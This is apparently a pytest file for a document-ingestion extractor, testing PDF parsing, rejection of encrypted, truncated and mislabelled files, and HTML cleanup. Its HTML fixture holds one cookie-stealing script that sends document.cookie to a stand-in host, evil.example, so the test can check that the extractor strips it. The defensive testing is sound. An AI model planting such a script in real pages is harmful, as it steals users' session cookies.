"""Extraction decides the type by content and rejects what it cannot read cleanly."""

from __future__ import annotations

import io

import pytest
from pypdf import PdfReader, PdfWriter

from retrieval.errors import IngestionRejected
from retrieval.extract import extract_text, sniff

LIMIT = 1024 * 1024


def make_pdf(text: str) -> bytes:
    """A minimal, valid one-page PDF showing `text` (built by hand: no PDF writer needed)."""
    stream = f"BT /F1 12 Tf 72 712 Td ({text}) Tj ET".encode()
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
        b"/Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>",
        b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n"
              % (len(objects) + 1, xref))  # fmt: skip
    return out.getvalue()


def encrypt(pdf: bytes) -> bytes:
    writer = PdfWriter()
    for page in PdfReader(io.BytesIO(pdf)).pages:
        writer.add_page(page)
    writer.encrypt(user_password="secret", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def test_pdf_text_is_extracted():
    text = extract_text(name="q3.pdf", data=make_pdf("Quarterly figures 2026"), max_bytes=LIMIT)
    assert "Quarterly figures 2026" in text


def test_encrypted_pdf_is_rejected():
    with pytest.raises(IngestionRejected, match="encrypted"):
        extract_text(name="locked.pdf", data=encrypt(make_pdf("hidden")), max_bytes=LIMIT)


def test_truncated_pdf_is_rejected_as_malformed():
    pdf = make_pdf("Quarterly figures")
    with pytest.raises(IngestionRejected, match="malformed|no extractable text"):
        extract_text(name="cut.pdf", data=pdf[: len(pdf) // 3], max_bytes=LIMIT)


def test_html_keeps_text_and_drops_scripts_and_styles():
    page = (
        b"<!doctype html><html><head><title>T</title><style>body{color:red}</style></head>"
        b"<body><h1>Runbook</h1><p>Promote the replica &amp; check lag.</p>"
        b"<script>fetch('https://evil.example/'+document.cookie)</script></body></html>"
    )
    text = extract_text(name="runbook.html", data=page, max_bytes=LIMIT)
    assert "Runbook" in text
    assert "Promote the replica & check lag." in text
    assert "evil.example" not in text
    assert "color:red" not in text


@pytest.mark.parametrize(
    ("name", "data", "reason"),
    [
        ("notes.pdf", b"just text, not a PDF", "does not match"),
        ("notes.txt", make_pdf("smuggled"), "does not match"),
        ("archive.zip", b"PK\x03\x04rest", "unsupported file type"),
        ("notes.md", b"abc\x00def", "binary"),
        ("notes.md", "Café".encode("latin-1"), "UTF-8"),
        ("notes.md", b"   \n", "empty"),
    ],
)
def test_bad_files_are_rejected_with_a_reason(name, data, reason):
    with pytest.raises(IngestionRejected, match=reason):
        extract_text(name=name, data=data, max_bytes=LIMIT)


def test_size_limit_is_enforced_before_parsing():
    with pytest.raises(IngestionRejected, match="limit"):
        extract_text(name="big.md", data=b"a" * (LIMIT + 1), max_bytes=LIMIT)


def test_sniff_uses_content_not_name():
    assert sniff(b"%PDF-1.7\n...") == "pdf"
    assert sniff(b"  <!DOCTYPE html><p>x") == "html"
    assert sniff(b"# Heading\n\ntext") == "text"
